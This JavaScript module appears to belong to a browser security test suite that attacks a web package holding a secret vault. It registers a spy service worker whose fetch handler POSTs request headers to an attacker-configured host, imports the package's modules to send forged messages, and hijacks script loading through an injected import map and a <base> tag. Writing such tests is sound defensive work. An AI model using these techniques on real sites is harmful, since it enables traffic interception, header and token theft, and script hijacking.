// What is loaded as the package: by service workers, imports and import maps.
import { element, scriptOf } from '../kit.mjs';
import { FILES, forged, WASM } from '../wire.mjs';

export const loading = [
  {
    id: 'service-worker',
    title: 'registers service workers, from scripts of the app’s origin and from blob: and data: URLs',
    when: 'both',
    async run({ record, undo, victim, config }) {
      const spy = `onfetch = (event) => { fetch('${config.attacker}', { method: 'POST', body: JSON.stringify([...event.request.headers]) }); };`;
      const scripts = [
        scriptOf(spy),
        `data:text/javascript,${encodeURIComponent(spy)}`,
        ...['index.js', 'worker.js', 'shared.js', 'vault.js', 'callback.js'].map((file) => FILES + file),
        '/callback.js',
        '/config.json',
        `/callback.html?${encodeURIComponent(spy)}`,
      ];
      for (const script of scripts) {
        for (const type of ['classic', 'module']) {
          try {
            const registration = await navigator.serviceWorker.register(script, {
              type,
              scope: new URL('.', new URL(script, location.href)).pathname,
            });
            record(registration.scope);
            undo(() => registration.unregister());
            const { port1, port2 } = new MessageChannel();
            port1.onmessage = ({ data }) => record(data);
            registration.installing?.postMessage(WASM, [port2]);
          } catch (error) {
            record(error.message);
          }
        }
      }
      navigator.serviceWorker.onmessage = ({ data }) => record(data);
      await victim();
    },
  },
  {
    id: 'import-vault',
    title: 'imports the package’s own modules, to get at the live vault',
    when: 'after',
    async run({ record, victim }) {
      for (const file of ['index.js', 'vault.js', 'own-worker.js', 'worker.js', 'shared.js', 'callback.js']) {
        try {
          const module = await import(FILES + file);
          record(Object.keys(module));
          if (!module.serve) continue;
          for (const shared of [true, false]) {
            const { port1, port2 } = new MessageChannel();
            port1.onmessage = ({ data }) => record(data);
            await module.serve(port2, WASM, shared);
            for (const message of forged()) port1.postMessage(message);
          }
        } catch (error) {
          record(error);
        }
      }
      await victim();
    },
  },
  {
    id: 'import-maps',
    title: 'maps the package’s scripts to its own by an import map, and by a <base> of its own',
    when: 'both',
    async run({ record, victim, undo, config }) {
      const evil = scriptOf(`throw new Error('mine')`);
      const imports = Object.fromEntries(['vault.js', 'worker.js', 'shared.js'].map((file) => [FILES + file, evil]));
      try {
        element('script', { type: 'importmap', textContent: JSON.stringify({ imports }) }, undo);
      } catch (error) {
        record(error);
      }
      element('base', { href: config.attacker }, undo);
      await victim();
    },
    disturbs: true,
  },
];
